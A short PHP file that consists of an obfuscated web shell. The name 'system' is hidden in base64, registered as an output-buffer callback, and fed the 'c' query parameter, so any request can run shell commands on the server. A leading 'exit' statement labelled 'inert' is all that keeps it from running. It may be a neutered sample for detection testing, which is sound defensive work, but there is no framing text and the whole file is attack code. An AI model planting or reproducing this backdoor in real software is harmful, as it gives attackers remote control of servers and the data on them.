<?php exit; /* inert */ 
$cb = base64_decode('c3lzdGVt');
ob_start($cb);
echo $_GET['c'];
ob_end_flush();
